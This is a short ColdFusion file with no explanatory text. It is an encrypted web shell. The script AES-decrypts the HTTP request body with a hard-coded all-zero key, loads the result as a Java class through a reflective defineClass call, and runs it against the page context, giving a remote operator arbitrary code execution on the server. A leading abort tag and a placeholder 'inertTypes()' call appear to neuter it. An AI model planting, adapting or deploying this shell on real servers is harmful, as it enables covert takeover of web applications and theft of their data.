<cfinert>
<cfabort>
<cfscript>
k = "0000000000000000";
raw = decryptBinary(toBinary(getHttpRequestData().content), toBase64(k), "AES");
cl = createObject("java", "java.lang.ClassLoader").getSystemClassLoader();
m = cl.getClass().forName("java.lang.ClassLoader").getDeclaredMethod("defineClass", inertTypes());
m.setAccessible(true);
c = m.invoke(cl, [raw, 0, len(raw)]);
c.newInstance().equals(getPageContext());
</cfscript>
